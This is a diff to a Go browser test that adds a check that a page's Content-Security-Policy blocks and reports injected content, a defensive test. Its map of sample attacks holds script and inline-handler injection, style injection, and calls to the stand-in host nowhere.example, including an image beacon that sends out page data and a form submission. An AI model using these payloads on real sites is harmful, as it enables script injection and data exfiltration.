@@ -1,6 +1,7 @@
 package page_test
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -79,5 +80,34 @@ func TestHostilePeer(t *testing.T) {
 		if bad := browsertest.Eval[string](tab, `(document.documentElement.outerHTML.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]/u) || [""])[0]`); bad != "" {
 			t.Errorf("%s: %U is on the page", c.name, []rune(bad))
 		}
+	}
+}
+
+// Were something of a peer's to get onto the page, the page's policy would stop it: what is put
+// there on purpose does not run, is not fetched, and is reported.
+func TestPolicy(t *testing.T) {
+	tab := open(t, "tls13", narrate.En, "")
+	for directive, attack := range map[string]string{
+		"script-src":  `(e => { e.textContent = "window.ran = 1"; document.body.append(e); })(document.createElement("script"))`,
+		"script-src-": `document.body.setAttribute("onclick", "window.ran = 1"), document.body.click()`,
+		"style-src":   `document.body.setAttribute("style", "display: none")`,
+		"style-src-":  `(e => { e.textContent = "body { display: none }"; document.body.append(e); })(document.createElement("style"))`,
+		"img-src":     `new Image().src = "http://nowhere.example/?" + document.body.textContent.length`,
+		"connect-src": `fetch("http://nowhere.example/").catch(() => 0)`,
+		"frame-src":   `(e => { e.src = "http://nowhere.example/"; document.body.append(e); })(document.createElement("iframe"))`,
+		"base-uri":    `(e => { e.href = "http://nowhere.example/"; document.head.append(e); })(document.createElement("base"))`,
+		"form-action": `(e => { e.action = "http://nowhere.example/"; document.body.append(e); e.submit(); })(document.createElement("form"))`,
+	} {
+		browsertest.Eval[bool](tab, `(window.ran = 0, `+attack+`, true)`)
+		heard := tab.Provoked()
+		if !slices.ContainsFunc(heard, func(h browsertest.Heard) bool {
+			return h.Kind == browsertest.Violation && strings.HasPrefix(h.Text, strings.TrimSuffix(directive, "-"))
+		}) {
+			t.Errorf("%s: nothing stopped %s: %q", directive, attack, heard)
+		}
+		if slices.ContainsFunc(heard, func(h browsertest.Heard) bool { return h.Kind == browsertest.Request }) {
+			t.Errorf("%s: something was asked for: %q", directive, heard)
+		}
+		is(t, tab, `window.ran + getComputedStyle(document.body).display`, "0block")
 	}
 }
